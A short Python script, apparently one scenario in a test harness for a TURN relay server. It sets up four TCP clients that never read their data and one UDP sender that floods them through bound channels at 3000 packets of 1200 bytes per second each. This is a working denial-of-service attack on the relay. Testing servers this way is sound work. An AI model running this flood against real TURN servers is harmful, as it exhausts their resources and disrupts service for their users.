"""Four clients over TCP that never read, and another that sends them media, 3000 packets of 1200 bytes
a second each."""
import struct
import time

import attack
import turn

READERS = 4
A_SECOND = 3000


def main():
    sender = turn.Client(turn.Udp(turn.ATTACKER), "mallory")
    sender.allocate()
    readers = []
    for number in range(READERS):
        reader = turn.Client(turn.Tcp(turn.ATTACKER), "mallory")
        reader.allocate()
        reader.permit(sender.relayed[0])
        reader.bind_channel(0x4000, *sender.relayed)
        sender.bind_channel(0x4000 + number, *reader.relayed)
        readers.append(reader)
    packets = [struct.pack("!HH", 0x4000 + n, 1200) + bytes(1200) for n in range(READERS)]
    sender.transport.socket.setblocking(False)
    sent = 0
    attack.begun()
    while attack.goes_on():
        while sent < attack.elapsed() * A_SECOND * READERS:
            try:
                sender.transport.send(packets[sent % READERS])
            except OSError:
                pass
            sent += 1
        time.sleep(0.001)
    attack.report(sent=sent, megabytes_sent=round(sent * 1200 / 1e6, 1))


main()
